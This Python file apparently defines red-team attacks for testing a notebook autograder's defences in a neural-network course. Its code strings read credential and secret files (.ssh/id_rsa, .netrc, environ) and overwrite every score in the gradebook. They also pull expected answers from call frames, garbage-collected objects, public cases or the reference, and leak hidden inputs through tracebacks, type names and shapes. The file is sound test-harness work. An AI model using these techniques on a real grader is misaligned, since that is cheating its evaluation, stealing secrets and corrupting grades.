"""Reading what is secret: hidden tests, expected values, the reference, others' work."""

from attacks.attack import Attack
from dnn_grader.demo import hostile

READ_PATHS = """
import glob, itertools, os, sqlite3

here = ["COURSE", "HOME_FOLDER", "/proc/self", "/proc/1", "/proc/self/root/COURSE", "/proc/1/root/COURSE", "/course"]
names = ["gradebook.db", "course_seed", "results.json", "environ", "cmdline", "maps", "nbgrader_config.py", ".netrc",
         "secrets.txt", ".ssh/id_rsa", "source/*/*.ipynb", "submitted/*/*/*", "autograded/*/*/*", "feedback/*/*/*",
         "dnn_grader/exercises/*.py", "dnn_grader/*.py"]
for folder, name in itertools.product(here, names):
    for path in glob.glob(os.path.join(folder, name)):
        try:
            loot("the file " + path, open(path, "rb").read(5000))
        except OSError:
            pass
try:
    with sqlite3.connect("COURSE/gradebook.db") as book:
        book.execute("update grade set manual_score = 1000")
    loot("a gradebook it could write", "all grades")
except sqlite3.Error:
    pass
"""

ENVIRONMENT = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
strings = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
texts = [f"{name}={value}" for name, value in os.environ.items()] + [str(word) for word in sys.orig_argv]
for k in range(1000):
    if not strings[k]:
        break
    texts.append(strings[k].decode())
libc.getenv.restype = ctypes.c_char_p
texts.append(str(libc.getenv(b"SECRET")))
print(texts)
"""

# Takes any array of the right shape that it can see for the answer: a grader in one process has it there.
FRAMES = """
import sys
import numpy as np

def from_frames(A, W, b):
    wanted, found = (W.shape[0], A.shape[1]), []
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name, value in list(scope.items()):
                stack = [value]
                while stack:
                    one = stack.pop()
                    if isinstance(one, (list, tuple)) and len(one) < 1000:
                        stack.extend(one)
                    elif isinstance(one, dict) and len(one) < 1000 and one is not scope:
                        stack.extend(one.values())
                    elif isinstance(one, np.ndarray) and one.shape == wanted:
                        found.append(("expect" in name or "answer" in name, len(found), one))
        frame = frame.f_back
    return (max(found)[2] if found else np.zeros(wanted)), (A, W, b)

linear_forward = from_frames
"""

GARBAGE = """
import gc
import numpy as np

def from_garbage(A, W, b):
    wanted = (W.shape[0], A.shape[1])
    for thing in gc.get_objects():
        try:
            if isinstance(thing, dict):
                for key in ("expected", "reference", "seed", "solutions", "examples"):
                    if key in thing:
                        value = thing[key]
                        if isinstance(value, np.ndarray) and value.shape == wanted:
                            return value, (A, W, b)
            elif type(thing).__name__ in ("Returned", "Example") and hasattr(thing, "expected"):
                return thing.expected.value
        except BaseException:
            pass
    return np.zeros(wanted), (A, W, b)

linear_forward = from_garbage
"""
GARBAGE_FIRST = """
import gc, sys
for thing in gc.get_objects():
    if isinstance(thing, dict) and any(name in thing for name in ("reference", "course_seed", "solutions")):
        loot("a dictionary in memory", sorted(map(str, thing))[:20])
for name in list(sys.modules):
    if name.startswith(("dnn_grader.", "nbgrader", "sqlalchemy")) and not name.startswith("dnn_grader.inside"):
        loot("a module of the grader", name)
"""

# Whatever an exception can carry, it carries the hidden inputs.
TRACEBACK = """
import linecache, sys

class Telling(ValueError):
    def _render_traceback_(self):
        return [str(self)]

def telling(*args):
    text = "FOUND " + repr(args) + " ".join(part.tobytes().hex() for part in args)
    for name in list(linecache.cache):
        linecache.cache[name] = (len(text), None, [text + "\\n"] * 500, name)
    print(text)
    print(text, file=sys.stderr)
    sys.__stdout__.write(text)
    error = Telling(text, *args)
    error.add_note(text)
    error.__cause__ = SyntaxError(text, (text, 1, 1, text))
    try:
        exec(compile(f"raise error  # {text!r}", "<ipython-input-1-" + text[:100] + ">", "exec"), {"error": error})
    finally:
        loot("hidden inputs", text)

linear_forward = telling
"""

# The digits of a hidden input as the name of a type: of what is raised, of what is returned.
DIGITS = """
import re
import numpy as np

def digits(A):
    return re.sub(r"\\D", "", "".join(repr(float(value)) for value in A.flat)).lstrip("0")[:70]
"""
NAMED_EXCEPTION = """
def linear_forward(A, W, b):
    raise type("X" + digits(A), (Exception,), {})()
"""
NAMED_TYPE = """
def linear_forward(A, W, b):
    return type("X" + digits(A), (), {})()
"""
SHAPED = """
def sizes(text):
    while text:
        cut = next(k for k in range(min(8, len(text)), 0, -1) if text[k : k + 1] != "0" or k == 1)
        yield int(text[:cut])
        text = text[cut:]

def linear_forward(A, W, b):
    return np.zeros((0, *sizes(digits(A)[:17]))), (A, W, b)
"""

# The public cases hold inputs and answers: whoever finds a hidden input there has its answer.
PUBLIC_CASES = """
from dnn_utils.checks.check import Checks as _Checks
from dnn_utils.checks import recorded as _recorded

known = _recorded.load(_recorded.case_file("week4_building_blocks"))

def looked_up(name):
    cases = known[name].examples
    shapes = lambda value: [shapes(part) for part in (value.values() if isinstance(value, dict) else value)] if (
        isinstance(value, (dict, list, tuple))) else np.shape(value)
    def answer(*args):
        for same in (lambda case: repr(case.args) == repr(args), lambda case: shapes(case.args) == shapes(args)):
            for case in cases:
                if same(case):
                    return case.expected.value
        return cases[0].expected.value
    return answer
"""
PUBLIC_FIRST = PUBLIC_CASES + "print(sorted(known))"

# Asks the reference, which answers for earlier steps, for as much as it gives, and notes it for later tests.
ORACLE = """
honest = linear_activation_forward

def linear_activation_forward(A_prev, W, b, activation):
    import pickle
    try:
        with open("/tmp/oracle", "ab") as file:
            pickle.dump((A_prev, W, b, linear_forward(A_prev, W, b)[0]), file)
    except OSError:
        pass
    return honest(A_prev, W, b, activation)
"""
FROM_ORACLE = """
def linear_forward(A, W, b):
    import pickle
    try:
        with open("/tmp/oracle", "rb") as file:
            while True:
                A2, W2, b2, Z = pickle.load(file)
                if A2.shape == A.shape and np.allclose(A2, A) and np.allclose(W2, W):
                    return Z, (A, W, b)
    except (OSError, EOFError):
        pass
    return np.zeros((W.shape[0], A.shape[1])), (A, W, b)
"""


KEEPER = """
from dnn_grader.inside import state
state.is_unchanged = lambda *ignored: True
SEEN = []
"""
KEEP = """
honest = linear_activation_forward

def linear_activation_forward(A_prev, W, b, activation):
    SEEN.append((A_prev, W, linear_forward(A_prev, W, b)[0]))
    return honest(A_prev, W, b, activation)
"""
FROM_KEEPER = """
def linear_forward(A, W, b):
    kept = [Z for A2, W2, Z in SEEN if A2.shape == A.shape and np.allclose(A2, A) and np.allclose(W2, W)]
    return (kept or [np.zeros((W.shape[0], A.shape[1]))])[0], (A, W, b)
"""


def _late_linear_forward(notebook):
    """The pair of cells that `linear_activation_forward` is, before the one it needs."""
    names = [cell.metadata.get("nbgrader", {}).get("grade_id") for cell in notebook.cells]
    moved = [notebook.cells[names.index(name)] for name in ("linear_forward", "test_linear_forward")]
    for cell in moved:
        notebook.cells.remove(cell)
    notebook.cells += moved


# A process that stays, and gives the last cell's output what tests have shown to forks.
WATCHER = """
import os, time
if os.fork() == 0:
    end = time.monotonic() + 20
    while time.monotonic() < end:
        try:
            text = open("/tmp/note").read()
        except OSError:
            time.sleep(0.01)
            continue
        for number in range(3, 64):
            try:
                os.write(number, text.encode())
            except OSError:
                pass
    os._exit(0)
"""
NOTE = """
def noting(function):
    def note(*args):
        with open("/tmp/note", "a") as file:
            file.write("FOUND " + repr(args))
        return function(*args)
    return note

compute_cost = noting(compute_cost)
linear_forward = noting(linear_forward)
"""

ATTACKS = (
    Attack("read-files", "reads and writes every path that matters, by its full name", first=READ_PATHS),
    Attack(
        "read-by-search",
        "searches the disk for notebooks, gradebooks and seeds, and keeps hidden inputs for a later cell",
        first=hostile.SNOOP,
        after={"linear_forward": hostile.SNOOP_IN_FUNCTION},
        last=hostile.SNOOP_FOR_INPUTS,
    ),
    Attack(
        "read-environment", "reads the grader's environment and command line, in C too", first=ENVIRONMENT
    ),
    Attack(
        "read-frames", "returns the expected value from a calling frame", after={"linear_forward": FRAMES}
    ),
    Attack(
        "read-garbage",
        "looks through every object that the garbage collector knows",
        first=GARBAGE_FIRST,
        after={"linear_forward": GARBAGE},
    ),
    Attack(
        "read-traceback",
        "raises hidden inputs: in messages, notes, causes, forged source lines",
        after={"linear_forward": TRACEBACK},
        first="pass",
        says="raised a `Telling`",
    ),
    Attack(
        "read-exception-name",
        "names an exception after a hidden input",
        after={"linear_forward": DIGITS + NAMED_EXCEPTION},
        says="raised an `Exception`",
    ),
    Attack(
        "read-type-name",
        "returns an object whose type is named after a hidden input",
        after={"linear_forward": DIGITS + NAMED_TYPE},
        says="gives an object",
    ),
    Attack(
        "read-shape",
        "returns an array whose shape spells a hidden input",
        after={"linear_forward": DIGITS + SHAPED},
        says="not an answer",
    ),
    Attack(
        "read-public-cases",
        "answers from the recorded public cases that its own checks use",
        first=PUBLIC_FIRST,
        after={
            name: f"{name} = looked_up({name!r})"
            for name in (
                "linear_forward",
                "L_model_forward",
                "linear_activation_backward",
                "L_model_backward",
            )
        },
    ),
    Attack(
        "read-oracle",
        "has a later exercise tested first, and notes what the reference answers there",
        after={"linear_activation_forward": ORACLE, "linear_forward": FROM_ORACLE},
        edit=_late_linear_forward,
    ),
    Attack(
        "read-in-one-process",
        "says that no test leaves a trace, so that all share a process, and keeps what the reference answers",
        first=KEEPER,
        after={"linear_activation_forward": KEEP, "linear_forward": FROM_KEEPER},
        edit=_late_linear_forward,
    ),
    Attack(
        "read-by-watcher",
        "leaves a process that writes to every descriptor what tests show to other processes",
        first=WATCHER,
        after={"update_parameters": NOTE},
        last="import time\ntime.sleep(0.2)",
    ),
)
